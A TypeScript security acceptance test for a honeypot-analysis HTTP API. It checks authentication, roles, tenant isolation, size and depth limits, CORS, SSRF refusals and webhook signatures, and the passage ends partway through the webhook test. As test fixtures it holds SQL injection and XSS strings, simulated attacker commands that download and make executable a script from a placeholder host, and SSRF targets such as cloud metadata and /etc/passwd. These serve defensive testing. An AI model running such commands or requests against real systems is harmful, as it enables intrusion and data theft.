/**
 * The HTTP API's security acceptance test (issue 10): the real `dshield-coord serve`, started
 * as a child process on loopback, attacked over HTTP the way a client would.
 *
 * Two deployments are checked:
 * - the embedded store (PGlite in a temp folder; needs no server, always runs): credentials,
 *   roles, tenants, body and JSON limits, the SSRF guard and webhook redirects, hostile
 *   strings, tokens, the in-memory rate limiter, and the audit log (read after the server
 *   stopped: PGlite allows one process);
 * - PostgreSQL (a fresh database, dropped afterwards): all of the above plus expired keys
 *   (expires_at moved into the past with psql), revocation with `keys revoke` while the server
 *   runs, stored campaigns of another tenant (row-level security, where an owner-role bypass
 *   would matter), the audit log read while the server runs, and the Redis rate limiter.
 *   Without PostgreSQL or Redis those parts skip with a notice, unless REQUIRE_SERVICES=1.
 *
 * Every check is concrete: each refusal is paired with the same request succeeding when it
 * should (a key that works, a token forged correctly but for its expiry), so a refusal for
 * the wrong reason cannot pass for the right one.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { randomBytes, randomUUID } from "node:crypto"
import { mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { SignJWT } from "jose"
import { verifySignature } from "../../src/api/webhooks/Signature.ts"
import { childEnv, cliOk, serve, type Serving, stopServers } from "../integration/apiServer.ts"
import { freshDatabase, serviceAvailable } from "../integration/services.ts"

const HAVE_POSTGRES = await serviceAvailable("PostgreSQL", 5432)
const HAVE_REDIS = await serviceAvailable("Redis", 6379)

const SQLI = "'; DROP TABLE api_keys; --"
const XSS = "<script>alert(1)</script>"
const NUL_TEXT = "SSH-2.0-\u0000nul"
const WEBHOOK_SECRET = `whsec-${randomBytes(16).toString("hex")}`
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/

// ------------------------------------------------------------------ processes

afterAll(stopServers)

// ------------------------------------------------------------------ webhook receivers

interface Hit {
  readonly path: string
  readonly headers: Headers
  readonly body: string
  readonly method: string
}

/** Loopback receivers: the first answers 200 on /ok/* and 302-redirects /redirect/* to the second. */
const hits: Array<Hit> = []
const second = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  async fetch(request) {
    hits.push({ path: `second:${new URL(request.url).pathname}`, headers: request.headers, body: await request.text(), method: request.method })
    return new Response("ok")
  }
})
const first = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  async fetch(request) {
    const path = new URL(request.url).pathname
    hits.push({ path: `first:${path}`, headers: request.headers, body: await request.text(), method: request.method })
    if (path.startsWith("/redirect/")) return new Response(null, { status: 302, headers: { location: `http://127.0.0.1:${second.port}/landed${path}` } })
    return new Response("ok")
  }
})
afterAll(() => {
  first.stop(true)
  second.stop(true)
})
const hitsOf = (prefix: string): Array<Hit> => hits.filter((h) => h.path.startsWith(prefix))

// ------------------------------------------------------------------ HTTP

interface Answer {
  readonly status: number
  readonly headers: Headers
  readonly text: string
  readonly doc: any
}

type Body = NonNullable<RequestInit["body"]>

interface CallOptions {
  readonly key?: string | undefined
  readonly bearer?: string | undefined
  readonly json?: unknown
  readonly body?: Body
  /** The Content-Type of `body` (default application/json); null sends none. */
  readonly contentType?: string | null
}

const call = async (base: string, method: string, path: string, options: CallOptions = {}): Promise<Answer> => {
  const headers: Record<string, string> = {}
  if (options.key !== undefined) headers["x-api-key"] = options.key
  if (options.bearer !== undefined) headers.authorization = `Bearer ${options.bearer}`
  let body: Body | undefined = options.body
  if (options.json !== undefined) body = JSON.stringify(options.json)
  if (options.contentType !== null && (body !== undefined || options.contentType !== undefined)) headers["content-type"] = options.contentType ?? "application/json"
  const response = await fetch(`${base}${path}`, { method, headers, ...(body === undefined ? {} : { body }) })
  const text = await response.text()
  let doc: unknown
  try {
    doc = JSON.parse(text)
  } catch {
    doc = undefined
  }
  return { status: response.status, headers: response.headers, text, doc }
}

/** An RFC 9457 problem of `status`, carrying the request id the edge gave the request. */
const expectProblem = (a: Answer, status: number, what: string): void => {
  const summary = `${what}: HTTP ${a.status} ${a.headers.get("content-type")} ${a.text.slice(0, 300)}`
  expect(a.status, summary).toBe(status)
  expect(a.headers.get("content-type") ?? "", summary).toStartWith("application/problem+json")
  expect(a.doc?.status, summary).toBe(status)
  expect(typeof a.doc?.title, summary).toBe("string")
  expect(a.doc?.request_id, summary).toMatch(UUID)
  expect(a.headers.get("x-request-id"), summary).toBe(a.doc.request_id)
  // The edge's security headers are on error answers too.
  expect(a.headers.get("x-content-type-options"), summary).toBe("nosniff")
}

const expectStatus = (a: Answer, status: number, what: string): void => {
  expect(a.status, `${what}: HTTP ${a.status} ${a.text.slice(0, 300)}`).toBe(status)
}

const sessions = (n: number, tag = "x"): { attack_sessions: Array<Record<string, unknown>> } => ({
  attack_sessions: Array.from({ length: n }, (_, i) => ({
    source_ip: `203.0.113.${(i % 250) + 1}`,
    timestamp: `2024-04-03T08:${String(i % 60).padStart(2, "0")}:00Z`,
    payload: `wget http://198.51.100.20/${tag}.sh; chmod +x ${tag}.sh`,
    target_port: 22,
    protocol: "ssh"
  }))
})

/** Cowrie log lines whose client version, credential and download URL carry hostile strings. */
const hostileCowrie = (): string => {
  const lines: Array<string> = []
  for (let i = 0; i < 6; i++) {
    const t = (m: number) => `2024-04-03T08:${String(i * 2 + m).padStart(2, "0")}:00.000Z`
    const base = { session: `hostile${i}abcde`, src_ip: `203.0.113.${20 + i}`, src_port: 40000 + i, dst_ip: "192.0.2.10", dst_port: 22, sensor: "hp1", protocol: "ssh" }
    lines.push(JSON.stringify({ ...base, eventid: "cowrie.session.connect", timestamp: t(0) }))
    lines.push(JSON.stringify({ ...base, eventid: "cowrie.client.version", version: `${SQLI} ${XSS} ${NUL_TEXT}`, timestamp: t(0) }))
    lines.push(JSON.stringify({ ...base, eventid: "cowrie.login.success", username: SQLI, password: XSS, timestamp: t(0) }))
    lines.push(JSON.stringify({ ...base, eventid: "cowrie.command.input", input: `wget http://198.51.100.20/x.sh; echo '${SQLI}'`, timestamp: t(0) }))
    lines.push(JSON.stringify({ ...base, eventid: "cowrie.session.file_download", url: `http://198.51.100.20/x.sh?q=${SQLI}${XSS}`, shasum: "a".repeat(64), outfile: "x", timestamp: t(0) }))
    lines.push(JSON.stringify({ ...base, eventid: "cowrie.session.closed", duration: 5, timestamp: t(1) }))
  }
  return `${lines.join("\n")}\n`
}
const HOSTILE_INDICATORS = [
  { type: "url", value: `http://198.51.100.20/x.sh?q=${SQLI}${XSS}` },
  { type: "credential", value: `${SQLI}/${XSS}` },
  { type: "client_version", value: `${SQLI} ${XSS} ${NUL_TEXT}` }
]

const submit = async (base: string, key: string, body: unknown = sessions(3)): Promise<string> => {
  const a = await call(base, "POST", "/analyze/coordination", { key, json: body })
  expectStatus(a, 202, "submit")
  return a.doc.analysis_id as string
}

/** Polls an analysis until it has finished. */
const finished = async (base: string, key: string, id: string) => {
  for (let i = 0; i < 150; i++) {
    const a = await call(base, "GET", `/analyze/${id}`, { key })
    expectStatus(a, 200, `GET /analyze/${id}`)
    if (a.doc.status === "completed" || a.doc.status === "failed") return a.doc
    await Bun.sleep(100)
  }
  throw new Error(`analysis ${id} did not finish`)
}

const createKey = async (base: string, adminKey: string, role: string, extra: Record<string, unknown> = {}): Promise<{ id: string; key: string }> => {
  const a = await call(base, "POST", "/keys", { key: adminKey, json: { role, ...extra } })
  expectStatus(a, 201, `POST /keys ${role}`)
  expect(a.doc.role).toBe(role)
  return { id: a.doc.id, key: a.doc.key }
}

const keyId = (key: string): string => key.split("_")[1]!
const wrongSecret = (key: string): string => `dsk_${keyId(key)}_${randomBytes(32).toString("base64url")}`
const jwtPayload = (token: string): Record<string, unknown> => JSON.parse(Buffer.from(token.split(".")[1]!, "base64url").toString("utf8"))
const b64url = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64url")

// ------------------------------------------------------------------ deployments

interface Deployment {
  readonly label: string
  readonly server: Serving
  readonly url: string
  /** The key ring's active kid and secret (DSHIELD_JWT_KEYS), to forge tokens. */
  readonly kid: string
  readonly jwtSecret: Uint8Array
  /** Admin keys of two tenants. */
  readonly adminA: string
  readonly tenantA: string
  readonly adminB: string
  readonly tenantB: string
  readonly cwd: string
  readonly env: Record<string, string>
  /** The store's CLI flags (`--data-dir DIR` or `--database-url URL`). */
  readonly storeFlags: ReadonlyArray<string>
  readonly databaseUrl?: string | undefined
  /** A stored campaign of tenant A, when the deployment has one. */
  readonly campaignId?: string | undefined
}

const jwtRing = (): { kid: string; secret: Uint8Array; env: string } => {
  const secret = randomBytes(32)
  const kid = `sec-${randomBytes(3).toString("hex")}`
  return { kid, secret: new Uint8Array(secret), env: `${kid}=${secret.toString("base64")}` }
}

const GOOD_ORIGIN = "https://console.example"

/** The flags of both main servers: a 1 MiB body cap, 50 sessions at most, one allowed webhook receiver, one browser origin. */
const MAIN_FLAGS = ["--max-body-mb", "1", "--max-sessions", "50", "--threads", "1", "--allow-webhook-targets", `127.0.0.1:${first.port}`, "--cors-origins", GOOD_ORIGIN]

const temps: Array<string> = []
afterAll(() => {
  for (const t of temps) rmSync(t, { recursive: true, force: true })
})
const tempDir = (): string => {
  const dir = mkdtempSync(join(tmpdir(), "dshield-sec-"))
  temps.push(dir)
  return dir
}

// ------------------------------------------------------------------ checks shared by both deployments

const PROTECTED: ReadonlyArray<readonly [string, string]> = [
  ["POST", "/analyze/coordination"],
  ["POST", "/analyze/bulk"],
  ["GET", "/analyze/{analysis}"],
  ["GET", "/campaigns"],
  ["GET", "/campaigns/{campaign}"],
  ["GET", "/campaigns/{campaign}/timeline"],
  ["POST", "/auth/token"],
  ["POST", "/auth/revoke"],
  ["POST", "/keys"],
  ["GET", "/keys"],
  ["DELETE", "/keys/{key}"],
  ["POST", "/uploads"],
  ["GET", "/uploads"],
  ["DELETE", "/uploads/up-000000000000000000000000"],
  ["GET", "/webhooks/secret"]
]

/**
 * Every protected endpoint with `credentials`: 401 problems. The requests are ones the tenant's
 * admin may make (real ids, valid bodies), so only the credential can be the reason.
 */
const expectAllRefused = async (d: Deployment, ids: { analysis: string; campaign: string; key: string }, credentials: CallOptions, what: string): Promise<ReadonlyArray<string>> => {
  const requestIds: Array<string> = []
  for (const [method, template] of PROTECTED) {
    const path = template.replace("{analysis}", ids.analysis).replace("{campaign}", ids.campaign).replace("{key}", ids.key)
    const json = path === "/analyze/coordination"
      ? sessions(2)
      : path === "/analyze/bulk"
      ? { batches: [sessions(2)] }
      : path === "/auth/revoke"
      ? { token: "dsr_AAAAAAAAAAAA_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
      : path === "/keys" && method === "POST"
      ? { role: "viewer" }
      : undefined
    // An upload is raw log lines, not JSON.
    const raw = path === "/uploads" && method === "POST" ? { body: '{"eventid":"cowrie.session.connect"}\n', contentType: "application/x-ndjson" } : {}
    const a = await call(d.url, method, path, { ...credentials, ...(json === undefined ? {} : { json }), ...raw })
    expectProblem(a, 401, `${what}: ${method} ${path}`)
    requestIds.push(a.doc.request_id)
  }
  return requestIds
}

const publicEndpoints = (get: () => Deployment) =>
  test("public endpoints answer 200 without credentials", async () => {
    const d = get()
    for (const path of ["/health/live", "/health/ready", "/health", "/openapi.json"]) {
      const a = await call(d.url, "GET", path)
      expectStatus(a, 200, path)
      expect(a.headers.get("content-type") ?? "").toContain("json")
    }
    const openapi = await call(d.url, "GET", "/openapi.json")
    expect(Object.keys(openapi.doc.paths)).toContain("/analyze/coordination")
  })

const corsChecks = (get: () => Deployment) =>
  test("CORS: an origin not in --cors-origins gets no allow-origin and a 403 preflight; security headers everywhere", async () => {
    const d = get()
    const evil = "https://evil.example"
    const read = await fetch(`${d.url}/keys`, { headers: { origin: evil, "x-api-key": d.adminA } })
    await read.arrayBuffer()
    expect(read.status).toBe(200)
    expect(read.headers.get("access-control-allow-origin")).toBeNull()
    const preflight = await fetch(`${d.url}/keys`, { method: "OPTIONS", headers: { origin: evil, "access-control-request-method": "POST", "access-control-request-headers": "x-api-key" } })
    const doc = await preflight.json() as { status: number; request_id: string }
    expect(preflight.status).toBe(403)
    expect(preflight.headers.get("content-type")).toStartWith("application/problem+json")
    expect(doc.request_id).toMatch(UUID)
    expect(preflight.headers.get("access-control-allow-origin")).toBeNull()
    expect(preflight.headers.get("access-control-allow-headers")).toBeNull()
    // The listed origin, by contrast, is allowed (so the refusals above are the allow-list's).
    const good = await fetch(`${d.url}/keys`, { headers: { origin: GOOD_ORIGIN, "x-api-key": d.adminA } })
    await good.arrayBuffer()
    expect(good.headers.get("access-control-allow-origin")).toBe(GOOD_ORIGIN)
    const goodPreflight = await fetch(`${d.url}/keys`, { method: "OPTIONS", headers: { origin: GOOD_ORIGIN, "access-control-request-method": "POST" } })
    expect(goodPreflight.status).toBe(204)
    expect(goodPreflight.headers.get("access-control-allow-origin")).toBe(GOOD_ORIGIN)
    // An allowed origin still needs credentials.
    const anonymous = await fetch(`${d.url}/keys`, { headers: { origin: GOOD_ORIGIN } })
    await anonymous.arrayBuffer()
    expect(anonymous.status).toBe(401)
    for (const path of ["/health/live", "/keys"]) {
      const a = await call(d.url, "GET", path, { key: d.adminA })
      expect(a.headers.get("x-content-type-options")).toBe("nosniff")
      expect(a.headers.get("x-frame-options")).toBe("DENY")
      expect(a.headers.get("cache-control")).toBe("no-store")
      expect(a.headers.get("content-security-policy")).toContain("default-src 'none'")
    }
  })

const credentialChecks = (get: () => Deployment) => {
  test("every protected endpoint: no credentials, a wrong secret, an unknown or malformed key, a garbage token → 401 problem", async () => {
    const d = get()
    const victim = await createKey(d.url, d.adminA, "viewer")
    const analysis = await submit(d.url, d.adminA)
    const ids = { analysis, campaign: d.campaignId ?? "c-0000000000000000", key: victim.id }
    await expectAllRefused(d, ids, {}, "no credentials")
    await expectAllRefused(d, ids, { key: wrongSecret(d.adminA) }, "admin key id with a wrong secret")
    await expectAllRefused(d, ids, { key: `dsk_${"A".repeat(12)}_${randomBytes(32).toString("base64url")}` }, "unknown key id")
    await expectAllRefused(d, ids, { key: "dsk_short_secret" }, "malformed key")
    await expectAllRefused(d, ids, { key: d.adminA.replace("dsk_", "dsr_") }, "key sent with the refresh prefix")
    await expectAllRefused(d, ids, { bearer: "not.a.token" }, "garbage bearer token")
    await expectAllRefused(d, ids, { bearer: d.adminA }, "API key sent as a bearer token")
    // Nothing above took effect: the victim key was not revoked, and the key itself works.
    expectStatus(await call(d.url, "GET", "/campaigns", { key: victim.key }), 200, "victim key after the refused DELETEs")
    expectStatus(await call(d.url, "GET", `/analyze/${analysis}`, { key: d.adminA }), 200, "the right key")
  })

  test("a revoked key (and the token issued from it) → 401 on every protected endpoint", async () => {
    const d = get()
    const doomed = await createKey(d.url, d.adminA, "admin")
    const token = await call(d.url, "POST", "/auth/token", { key: doomed.key })
    expectStatus(token, 200, "token before revocation")
    expectStatus(await call(d.url, "GET", "/keys", { bearer: token.doc.access_token }), 200, "token before revocation")
    const victim = await createKey(d.url, d.adminA, "viewer")
    const analysis = await submit(d.url, d.adminA)
    if (d.databaseUrl !== undefined) {
      // PostgreSQL: `keys revoke` from the CLI while the server runs.
      const out = await cliOk(["keys", "revoke", doomed.id, ...d.storeFlags], d.cwd, d.env)
      expect(out).toContain(`Revoked key ${doomed.id}`)
    } else {
      // PGlite allows one process: revoked over the API by the tenant's admin.
      expectStatus(await call(d.url, "DELETE", `/keys/${doomed.id}`, { key: d.adminA }), 204, "DELETE /keys")
    }
    const ids = { analysis, campaign: d.campaignId ?? "c-0000000000000000", key: victim.id }
    await expectAllRefused(d, ids, { key: doomed.key }, "revoked key")
    await expectAllRefused(d, ids, { bearer: token.doc.access_token }, "token of a revoked key")
    const refreshed = await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: token.doc.refresh_token } })
    expectProblem(refreshed, 401, "refresh token of a revoked key")
    expectStatus(await call(d.url, "GET", "/campaigns", { key: victim.key }), 200, "victim key")
  })
}

const roleChecks = (get: () => Deployment) =>
  test("role matrix: viewer reads only, analyst also submits, admin also manages keys; tokens carry the key's role", async () => {
    const d = get()
    const analysis = await submit(d.url, d.adminA)
    const keys = {
      viewer: (await createKey(d.url, d.adminA, "viewer")).key,
      analyst: (await createKey(d.url, d.adminA, "analyst")).key,
      admin: (await createKey(d.url, d.adminA, "admin")).key
    }
    const expected = {
      viewer: { submit: 403, bulk: 403, upload: 403, webhookSecret: 403, createKey: 403, listKeys: 403, deleteKey: 403 },
      analyst: { submit: 202, bulk: 202, upload: 201, webhookSecret: 200, createKey: 403, listKeys: 403, deleteKey: 403 },
      admin: { submit: 202, bulk: 202, upload: 201, webhookSecret: 200, createKey: 201, listKeys: 200, deleteKey: 204 }
    } as const
    for (const role of ["viewer", "analyst", "admin"] as const) {
      const issued = await call(d.url, "POST", "/auth/token", { key: keys[role] })
      expectStatus(issued, 200, `${role}: POST /auth/token`)
      expect(jwtPayload(issued.doc.access_token).role).toBe(role)
      expect(jwtPayload(issued.doc.access_token).tenant).toBe(d.tenantA)
      // The same matrix with the key and with the token issued from it.
      for (const credentials of [{ key: keys[role] }, { bearer: issued.doc.access_token as string }]) {
        const via = `${role} via ${credentials.key === undefined ? "token" : "key"}`
        const victim = await createKey(d.url, d.adminA, "viewer")
        const answers = {
          submit: await call(d.url, "POST", "/analyze/coordination", { ...credentials, json: sessions(2) }),
          bulk: await call(d.url, "POST", "/analyze/bulk", { ...credentials, json: { batches: [sessions(2)] } }),
          upload: await call(d.url, "POST", "/uploads", { ...credentials, body: '{"eventid":"cowrie.session.connect"}\n', contentType: "application/x-ndjson" }),
          webhookSecret: await call(d.url, "GET", "/webhooks/secret", credentials),
          createKey: await call(d.url, "POST", "/keys", { ...credentials, json: { role: "viewer" } }),
          listKeys: await call(d.url, "GET", "/keys", credentials),
          deleteKey: await call(d.url, "DELETE", `/keys/${victim.id}`, credentials)
        }
        for (const [name, a] of Object.entries(answers)) {
          const want = expected[role][name as keyof (typeof expected)["viewer"]]
          if (want === 403) expectProblem(a, 403, `${via}: ${name}`)
          else expectStatus(a, want, `${via}: ${name}`)
        }
        // Every role reads.
        expectStatus(await call(d.url, "GET", "/campaigns", credentials), 200, `${via}: GET /campaigns`)
        expectStatus(await call(d.url, "GET", "/uploads", credentials), 200, `${via}: GET /uploads`)
        expectStatus(await call(d.url, "GET", `/analyze/${analysis}`, credentials), 200, `${via}: GET /analyze`)
        // A refused DELETE revoked nothing; the admin's did.
        expectStatus(await call(d.url, "GET", "/campaigns", { key: victim.key }), role === "admin" ? 401 : 200, `${via}: victim key afterwards`)
      }
      // Tokens are issued for keys only, whatever the role.
      expectProblem(await call(d.url, "POST", "/auth/token", { bearer: issued.doc.access_token }), 403, `${role}: token from a token`)
    }
  })

const tenantChecks = (get: () => Deployment) =>
  test("tenants: B gets 404 (not 403) for A's analysis; key lists and revocation stay within the tenant", async () => {
    const d = get()
    // Read by B at once (queued or running: answered from the runner's memory) and once done (from the store).
    const analysis = await submit(d.url, d.adminA, sessions(50, "tenant"))
    expectProblem(await call(d.url, "GET", `/analyze/${analysis}`, { key: d.adminB }), 404, "B reads A's fresh analysis")
    expect((await finished(d.url, d.adminA, analysis)).status).toBe("completed")
    const bToken = (await call(d.url, "POST", "/auth/token", { key: d.adminB })).doc.access_token as string
    const never = `an-${randomBytes(12).toString("hex")}`
    for (const credentials of [{ key: d.adminB }, { bearer: bToken }]) {
      const other = await call(d.url, "GET", `/analyze/${analysis}`, credentials)
      expectProblem(other, 404, "B reads A's analysis")
      const missing = await call(d.url, "GET", `/analyze/${never}`, credentials)
      expectProblem(missing, 404, "B reads an analysis that never existed")
      // Indistinguishable from one that never existed.
      expect(other.doc.type).toBe(missing.doc.type)
      expect(other.doc.detail.replace(analysis, "ID")).toBe(missing.doc.detail.replace(never, "ID"))
    }
    const aKey = await createKey(d.url, d.adminA, "viewer")
    const bKey = await createKey(d.url, d.adminB, "viewer")
    const listA = await call(d.url, "GET", "/keys", { key: d.adminA })
    const listB = await call(d.url, "GET", "/keys", { key: d.adminB })
    expectStatus(listB, 200, "GET /keys of B")
    const idsA = (listA.doc.keys as Array<{ id: string; tenant: string }>).map((k) => k.id)
    const idsB = (listB.doc.keys as Array<{ id: string; tenant: string }>).map((k) => k.id)
    expect(idsA).toContain(aKey.id)
    expect(idsA).toContain(keyId(d.adminA))
    expect(idsB).toContain(bKey.id)
    expect(idsB).toContain(keyId(d.adminB))
    for (const id of idsA) expect(idsB).not.toContain(id)
    expect(new Set((listB.doc.keys as Array<{ tenant: string }>).map((k) => k.tenant))).toEqual(new Set([d.tenantB]))
    expect(listB.text).not.toContain("key_hash")
    expect(listB.text).not.toContain("sha256$")
    // B's admin cannot revoke A's keys: 404, and they keep working.
    expectProblem(await call(d.url, "DELETE", `/keys/${aKey.id}`, { key: d.adminB }), 404, "B revokes A's viewer key")
    expectProblem(await call(d.url, "DELETE", `/keys/${keyId(d.adminA)}`, { bearer: bToken }), 404, "B's token revokes A's admin key")
    expectStatus(await call(d.url, "GET", "/campaigns", { key: aKey.key }), 200, "A's viewer key afterwards")
    expectStatus(await call(d.url, "GET", "/keys", { key: d.adminA }), 200, "A's admin key afterwards")
    // A refresh token of A cannot be revoked by B either.
    const aPair = await call(d.url, "POST", "/auth/token", { key: aKey.key })
    expectProblem(await call(d.url, "POST", "/auth/revoke", { key: d.adminB, json: { token: aPair.doc.refresh_token } }), 400, "B revokes A's refresh token")
    expectProblem(await call(d.url, "POST", "/auth/revoke", { key: d.adminB, json: { token: aPair.doc.access_token } }), 400, "B revokes A's access token")
    expectStatus(await call(d.url, "GET", "/campaigns", { bearer: aPair.doc.access_token }), 200, "A's token afterwards")
  })

const limitChecks = (get: () => Deployment) =>
  test("oversized, malformed, 100,000-deep, too many sessions, unknown fields → 413/400 problems; the server stays up", async () => {
    const d = get()
    const analyst = (await createKey(d.url, d.adminA, "analyst")).key
    // Over --max-body-mb 1 with a declared length, and streamed without one.
    const big = JSON.stringify({ attack_sessions: Array.from({ length: 20 }, (_, i) => ({ source_ip: `203.0.113.${i + 1}`, timestamp: i, payload: "x".repeat(60_000) })) })
    expect(big.length).toBeGreaterThan(1024 * 1024)
    expectProblem(await call(d.url, "POST", "/analyze/coordination", { key: analyst, body: big }), 413, "oversized body")
    expectProblem(await call(d.url, "POST", "/analyze/coordination", { key: analyst, body: "x".repeat(4 * 1024 * 1024), contentType: "application/x-ndjson" }), 413, "oversized raw logs")
    const chunks = [new TextEncoder().encode(big)]
    const streamed = new ReadableStream<Uint8Array>({
      pull(controller) {
        const next = chunks.shift()
        if (next === undefined) controller.close()
        else controller.enqueue(next)
      }
    })
    expectProblem(await call(d.url, "POST", "/analyze/coordination", { key: analyst, body: streamed }), 413, "oversized streamed body")
    // Malformed JSON.
    expectProblem(await call(d.url, "POST", "/analyze/coordination", { key: analyst, body: "{\"attack_sessions\": [}" }), 400, "malformed JSON")
    expectProblem(await call(d.url, "POST", "/keys", { key: d.adminA, body: "{\"role\":" }), 400, "malformed JSON on /keys")
    // Nested 100,000 deep (arrays and objects), within the body cap.
    const deepArrays = `${"[".repeat(100_000)}${"]".repeat(100_000)}`
    const deepObjects = `${"{\"a\":".repeat(100_000)}1${"}".repeat(100_000)}`
    // Refused by the edge's depth cap before anything parses them (not by a schema after).
    const deepRequests: Array<[string, string, CallOptions]> = [
      ["/analyze/coordination", "arrays", { key: analyst, body: deepArrays }],
      ["/analyze/bulk", "arrays in bulk", { key: analyst, body: `{"batches":${deepArrays}}` }],
      ["/keys", "objects", { key: d.adminA, body: deepObjects }],
      // Whatever the spelling of the media type, or with none (the API then decodes JSON).
      ["/keys", "with Content-Type Application/JSON", { key: d.adminA, body: `{"role":${deepArrays}}`, contentType: "Application/JSON" }],
      ["/keys", "with Content-Type TEXT/JSON", { key: d.adminA, body: `{"role":${deepArrays}}`, contentType: "TEXT/JSON; charset=UTF-8" }],
      ["/keys", "without a Content-Type", { key: d.adminA, body: new TextEncoder().encode(`{"role":${deepArrays}}`), contentType: null }]
    ]
    for (const [path, what, options] of deepRequests) {
      const deep = await call(d.url, "POST", path, options)
      expectProblem(deep, 400, `100,000-deep ${what}`)
      expect(deep.doc.detail).toContain("nests deeper than")
    }
    // More sessions than --max-sessions 50 (50 is accepted).
    const tooMany = await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: sessions(51) })
    expectProblem(tooMany, 400, "51 sessions")
    expect(tooMany.doc.detail).toContain("50")
    expectProblem(await call(d.url, "POST", "/analyze/bulk", { key: analyst, json: { batches: [sessions(51)] } }), 400, "51 sessions in bulk")
    expectStatus(await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: sessions(50) }), 202, "50 sessions")
    // Unknown fields, at the top and nested, and in the query.
    const unknownTop = await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: { ...sessions(2), is_admin: true } })
    expectProblem(unknownTop, 400, "unknown top-level field")
    expect(JSON.stringify(unknownTop.doc.errors)).toContain("is_admin")
    const nested = sessions(2)
    nested.attack_sessions[0]!.tenant = "someone-else"
    expectProblem(await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: nested }), 400, "unknown nested field")
    expectProblem(await call(d.url, "POST", "/keys", { key: d.adminA, json: { role: "viewer", tenant: "someone-else" } }), 400, "tenant smuggled into POST /keys")
    expectProblem(await call(d.url, "GET", "/campaigns?tenant=someone-else", { key: analyst }), 400, "unknown query parameter")
    // Still up, and a normal request still works end to end.
    expectStatus(await call(d.url, "GET", "/health/live"), 200, "/health/live afterwards")
    const id = await submit(d.url, analyst, sessions(3, "after"))
    expect((await finished(d.url, analyst, id)).status).toBe("completed")
  })

const ssrfChecks = (get: () => Deployment) => {
  test("SSRF: loopback, link-local metadata, private and loopback-resolving callback_urls → 400 at submission", async () => {
    const d = get()
    const refused = [
      "http://127.0.0.1:9/",
      "http://[::1]/",
      "http://169.254.169.254/latest/meta-data",
      "http://10.0.0.1/",
      // A name resolving to loopback, on the very port allowed for 127.0.0.1: the allow-list is by host:port as written.
      `http://localhost:${first.port}/ok/localhost`,
      "http://2130706433/",
      "http://[::ffff:127.0.0.1]/",
      "file:///etc/passwd"
    ]
    for (const url of refused) {
      // A key per URL: three submissions each, well within the default 30 a minute.
      const analyst = (await createKey(d.url, d.adminA, "analyst")).key
      const a = await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: { ...sessions(2), callback_url: url } })
      expectProblem(a, 400, `callback_url ${url}`)
      expect(a.doc.type).toBe("urn:dshield-coord:problem:invalid-request")
      const raw = await call(d.url, "POST", `/analyze/coordination?callback_url=${encodeURIComponent(url)}`, { key: analyst, body: hostileCowrie(), contentType: "application/x-ndjson" })
      expectProblem(raw, 400, `raw logs with callback_url ${url}`)
      const bulk = await call(d.url, "POST", "/analyze/bulk", { key: analyst, json: { batches: [{ ...sessions(2), callback_url: url }] } })
      expectProblem(bulk, 400, `bulk with callback_url ${url}`)
    }
    expect(hitsOf("first:/ok/localhost")).toHaveLength(0)
  })

  test("bulk: one batch with a refused callback_url refuses the whole request; nothing is queued or counted", async () => {
    const d = get()
    // A daily quota of one analysis shows whether anything was counted.
    const analyst = (await createKey(d.url, d.adminA, "analyst", { daily_analysis_quota: 1 })).key
    const refused = await call(d.url, "POST", "/analyze/bulk", { key: analyst, json: { batches: [sessions(2), { ...sessions(2), callback_url: "http://169.254.169.254/latest/meta-data" }] } })
    expectProblem(refused, 400, "bulk with a metadata callback in its second batch")
    expectProblem(await call(d.url, "POST", "/analyze/bulk", { key: analyst, json: { batches: [sessions(2), sessions(51)] } }), 400, "bulk with 51 sessions in its second batch")
    expectStatus(await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: sessions(2) }), 202, "the one analysis of the quota")
    const beyond = await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: sessions(2) })
    expectProblem(beyond, 429, "beyond the quota")
    // When to come back: the seconds to the reset, in the body and as Retry-After.
    const resetIn = (beyond.doc as { retry_after: number }).retry_after
    expect(resetIn).toBeGreaterThan(0)
    expect(resetIn).toBeLessThanOrEqual(86_400)
    expect(beyond.headers.get("retry-after")).toBe(String(resetIn))
  })

  test("webhooks: the allowed receiver gets a POST whose Coord-Signature verifies; a redirect to another loopback port is never followed", async () => {
    const d = get()
    const analyst = (await createKey(d.url, d.adminA, "analyst")).key
    const tag = `${d.label}-${randomUUID()}`
    const good = await submit(d.url, analyst, { ...sessions(3), callback_url: `http://127.0.0.1:${first.port}/ok/${tag}` })
    const redirected = await submit(d.url, analyst, { ...sessions(3), callback_url: `http://127.0.0.1:${first.port}/redirect/${tag}` })
    expect((await finished(d.url, analyst, good)).status).toBe("completed")
    expect((await finished(d.url, analyst, redirected)).status).toBe("completed")
    const deadline = Date.now() + 10_000
    while ((hitsOf(`first:/ok/${tag}`).length === 0 || hitsOf(`first:/redirect/${tag}`).length === 0) && Date.now() < deadline) await Bun.sleep(50)
    // Longer than the first retry's backoff (1 s): a retried refusal would show as a second hit.
    await Bun.sleep(1_600)

    const delivered = hitsOf(`first:/ok/${tag}`)
    expect(delivered).toHaveLength(1)
    const hit = delivered[0]!
    expect(hit.method).toBe("POST")
    expect(hit.headers.get("content-type")).toBe("application/json")
    const signature = hit.headers.get("coord-signature")
    const now = Math.floor(Date.now() / 1000)
    // Signed with tenant A's secret: the one A reads over HTTP and the operator from the CLI.
    const secretA = await call(d.url, "GET", "/webhooks/secret", { key: analyst })
    expectStatus(secretA, 200, "the analyst reads its tenant's webhook secret")
    expect(secretA.doc).toMatchObject({ tenant: d.tenantA, algorithm: "HMAC-SHA256", header: "Coord-Signature" })
    expect((await cliOk(["keys", "webhook-secret", "--tenant", d.tenantA, ...d.storeFlags], d.cwd, d.env)).trim()).toBe(secretA.doc.secret)
    expect(verifySignature(secretA.doc.secret, signature, hit.body, now)).toBe(true)
